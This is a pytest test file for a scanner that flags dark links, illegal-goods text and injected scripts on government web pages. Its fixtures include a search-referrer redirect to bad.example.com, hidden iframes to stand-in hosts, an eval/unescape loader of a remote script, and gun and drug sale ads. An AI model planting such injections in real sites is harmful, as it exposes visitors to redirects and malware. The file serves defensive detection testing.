"""Dark links, illegal links and injected scripts: vetoes need two signs, one sign is a notice."""

from __future__ import annotations

from govinspect.text.hidden_links import find_html_threats, find_illegal_text

PAGE = "http://www.example.gov.cn/art/2020/4/9/art_1_2.html"


def page(body: str, head: str = "") -> str:
    return f"<html><head>{head}</head><body><p>正文内容</p>{body}</body></html>"


def checks(html: str) -> list[tuple[str, str]]:
    return [(f.check, f.severity) for f in find_html_threats(html, page_url=PAGE)]


def test_hidden_spam_anchor_outside_government_is_a_veto() -> None:
    html = page('<div style="display:none"><a href="http://spam.example.com/">澳门新葡京娱乐</a></div>')
    assert checks(html) == [("content.dark_link", "veto")]
    finding = find_html_threats(html, page_url=PAGE)[0]
    assert finding.evidence["host"] == "spam.example.com" and "display:none" in finding.evidence["hidden_by"]


def test_other_hiding_tricks() -> None:
    for wrapper in (
        '<div style="position:absolute;left:-9999px">{}</div>',
        '<div class="hid">{}</div>',
        '<span style="color:#fff;background-color:#FFFFFF">{}</span>',
        '<marquee height="1" scrollamount="5000">{}</marquee>',
    ):
        html = page(
            wrapper.format('<a href="https://bet.example.net/">皇冠体育投注</a>'),
            head="<style>.hid{display:none}</style>",
        )
        assert ("content.dark_link", "veto") in checks(html), wrapper


def test_hidden_menu_to_government_sites_is_fine() -> None:
    html = page(
        '<ul style="display:none"><a href="http://www.gov.cn/">中国政府网</a><a href="/col/1">本站</a></ul>'
    )
    assert checks(html) == []


def test_hidden_outside_link_without_spam_is_only_a_notice() -> None:
    html = page('<div style="display:none"><a href="http://www.example.com/">某网站</a></div>')
    assert checks(html) == [("content.dark_link", "notice")]


def test_visible_spam_link_and_visible_law_enforcement_text() -> None:
    assert checks(page('<a href="http://x.example.com/">百家乐在线</a>')) == [("content.illegal", "veto")]
    assert checks(page("<p>警方依法打击网络赌博和色情违法犯罪</p>")) == []


def test_injected_scripts() -> None:
    redirect = page(
        "<script>var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0)"
        "{window.location.href='http://bad.example.com/';}</script>"
    )
    assert checks(redirect) == [("security.malicious_script", "veto")]
    analytics = page('<script src="https://hm.baidu.com/hm.js?abc"></script>')
    assert checks(analytics) == []
    unknown = page('<script src="http://cdn.unknown-host.xyz/a.js"></script>')
    assert checks(unknown) == []  # an unknown third-party script alone is everyday markup
    appended = page("") + '<script src="http://cdn.unknown-host.xyz/a.js"></script>'
    assert checks(appended) == [("security.malicious_script", "notice")]
    spam_src = page('<script src="http://casino-tj.example.com/x.js"></script>')
    assert checks(spam_src) == [("security.malicious_script", "veto")]
    writer = page(
        '<script>document.write(\'<div style="display:none"><a href="http://x.example.com">'
        "时时彩</a></div>');</script>"
    )
    assert ("security.malicious_script", "veto") in checks(writer)


def test_hidden_iframe_to_an_outside_host_is_a_veto() -> None:
    for frame in (
        '<iframe src="//198.51.100.7:8080/x/1.html" width="0" height="0" frameborder="0"></iframe>',
        '<iframe src="http://evil.example.com/a.htm" width=1 height=1></iframe>',
        '<iframe src="http://evil.example.com/a.htm" style="display:none"></iframe>',
        '<div style="position:absolute;left:-9999px"><iframe src="http://evil.example.com/a.htm"></iframe></div>',
    ):
        found = find_html_threats(page(frame), page_url=PAGE)
        assert [(f.check, f.severity) for f in found] == [("security.malicious_script", "veto")], frame
        assert found[0].evidence["pattern"] == "hidden_iframe"
    assert checks(page("") + '<iframe src="http://evil.example.com/a.htm"></iframe>') == [
        ("security.malicious_script", "veto")
    ]  # appended after </html>
    # only inside a hidden block: an inactive tab panel embedding a video looks the same
    tab = '<div style="display:none"><iframe src="http://tv.example.com/play/1" width="640"></iframe></div>'
    assert checks(page(tab)) == [("security.malicious_script", "notice")]


def test_ordinary_iframes_are_fine() -> None:
    for frame in (
        '<iframe src="http://static.bshare.cn/cm.html" style="display: none;"></iframe>',  # share widget
        '<iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" height="0" width="0"></iframe>',
        '<iframe src="/form/submit.html" style="display:none"></iframe>',  # the site's own
        '<iframe src="http://zwfw.example.gov.cn/sso" width="0" height="0"></iframe>',
        '<iframe src="http://cdn.example.gov.cn.example.com/x" width="600" height="400"></iframe>',  # visible
        '<iframe name="submitFrame" style="display:none"></iframe>',
    ):
        assert checks(page(frame)) == [], frame


def test_obfuscated_loader_of_an_outside_script() -> None:
    loader = "document.write(\"<script src='http://bad.example.com/j.js'></script>\")"
    encoded = "".join(f"%{ord(c):02x}" for c in loader)
    found = find_html_threats(page(f"<script>eval(unescape('{encoded}'))</script>"), page_url=PAGE)
    assert [(f.check, f.severity) for f in found] == [("security.malicious_script", "veto")]
    assert found[0].evidence["hosts"] == ["bad.example.com"]
    codes = ",".join(str(ord(c)) for c in loader)
    assert checks(page(f"<script>eval(String.fromCharCode({codes}))</script>")) == [
        ("security.malicious_script", "veto")
    ]
    analytics = (
        '<script>document.write(unescape("%3Cscript src=\'" + p + "hm.baidu.com/h.js%3Fabc\''
        " type='text/javascript'%3E%3C/script%3E\"));</script>"
    )
    assert checks(page(analytics)) == []
    assert checks(page("<script>var d = eval('(' + json + ')'); // document.write</script>")) == []


def test_illegal_goods_advertised_in_plain_text() -> None:
    found = find_illegal_text("出售高仿真枪支弹药，货到付款，联系QQ：335071899")
    assert [(f.check, f.severity) for f in found] == [("content.illegal", "veto")]
    assert [f.severity for f in find_illegal_text("低价出售冰毒 加V: abc123456")] == ["veto"]
    assert [f.severity for f in find_illegal_text("气枪转让，价格面议")] == ["notice"]
    for lawful in (
        "警方破获一起非法出售仿真枪案件，缴获枪支12支，嫌疑人通过QQ联系买家。",
        "严禁销售烟花爆竹和管制刀具，举报电话：13912345678",
        "纳税人可申请代开发票，关注微信公众号：jxtax2020",
        "射击队在10米气手枪比赛中夺冠",
        "枪支弹药",
    ):
        assert find_illegal_text(lawful) == [], lawful


def test_links_that_only_look_relative_still_reach_their_host() -> None:
    # A relative link is skipped without resolving it (it stays on the page's host); these are not relative:
    # URL parsing strips the control character or space and removes the tab, leaving an authority.
    for href in (
        "//spam.example.com/x",
        "/\t/spam.example.com/x",
        "\x01//spam.example.com/x",
        "HTTP://spam.example.com/",
    ):
        html = page(f'<div style="display:none"><a href="{href}">澳门新葡京</a></div>')
        found = find_html_threats(html, page_url=PAGE)
        assert [(f.check, f.severity, f.evidence["host"]) for f in found] == [
            ("content.dark_link", "veto", "spam.example.com")
        ], repr(href)
    for href in ("/spam.html", "spam.html", "?q=1", "http:spam.html"):
        assert checks(page(f'<div style="display:none"><a href="{href}">澳门新葡京</a></div>')) == [], href


def test_hidden_text_is_read_in_the_parts_the_markup_gives() -> None:
    # A term after a child element (a tail) counts; a comment or spaces put inside a term do not hide it.
    assert checks(page('<div style="display:none"><b>x</b>澳门新葡京</div>')) == [("content.illegal", "veto")]
    assert checks(page("<p>新葡<!-- -->京</p>")) == [("content.illegal", "notice")]
    assert checks(page("<p>新葡京</p>")) == [("content.illegal", "notice")]
    assert checks(page("<p>体育彩票公益金、文化娱乐场所、成人教育</p>")) == []


def test_the_farms_gambling_link_texts_are_vetoes_when_hidden() -> None:
    from govinspect.farm.text import GAMBLING_TEXTS

    for text in (*GAMBLING_TEXTS, "澳門葡京娛樂場", "百 家 乐", "百-家-乐真人", "ＢＥＴ３６５"):
        for hide in ("display:none", "position:absolute;left:-9999px;top:-9999px"):
            html = page(f'<div style="{hide}"><a href="http://127.0.0.9:8000/bc/1.html">{text}</a></div>')
            assert checks(html) == [("content.dark_link", "veto")], (text, hide)


def test_spam_term_strength() -> None:
    hidden = '<div style="display:none"><a href="http://x.example.com/">{}</a></div>'
    # one weak family word is a notice; two different ones, or a strong term, a veto
    assert checks(page(hidden.format("彩票开奖"))) == [("content.dark_link", "notice")]
    assert checks(page(hidden.format("葡京 娱乐场"))) == [("content.dark_link", "veto")]
    # law-enforcement wording beside a term: news of a crackdown, a notice
    assert checks(page(hidden.format("严厉打击网络赌场"))) == [("content.dark_link", "notice")]
    assert checks(page('<a href="http://x.example.com/">警方破获网络赌场案</a>')) == []
    assert checks(page('<a href="http://x.example.com/">依法打击百家乐赌博</a>')) == [
        ("content.illegal", "notice")
    ]
    # a description that crackdown news uses too is one weak sign; with a brand it is a veto
    assert checks(page(hidden.format("网络赌场"))) == [("content.dark_link", "notice")]
    assert checks(page(hidden.format("网络赌场 百家乐"))) == [("content.dark_link", "veto")]
    # lawful forms holding a term are ordinary government links
    for lawful in ("中国福利彩票发行中心", "成人高考报名", "文化娱乐场所审批"):
        assert checks(page(f'<a href="http://x.example.com/">{lawful}</a>')) == [], lawful
        assert checks(page(hidden.format(lawful))) == [("content.dark_link", "notice")], lawful
    # a strong term in the address itself
    assert checks(page(hidden.format("点击进入").replace("x.example.com/", "www.bet365.com/"))) == [
        ("content.dark_link", "veto")
    ]
    assert checks(page('<a href="http://www.example.com/pornography-law">法规</a>')) == []


def test_illegal_goods_in_traditional_characters() -> None:
    found = find_illegal_text("出售高仿真槍支彈藥，貨到付款，聯繫ＱＱ：335071899")
    assert [(f.severity, f.evidence["term"]) for f in found] == [("veto", "仿真槍")]
    assert find_illegal_text("警方破獲一起出售仿真槍案件") == []
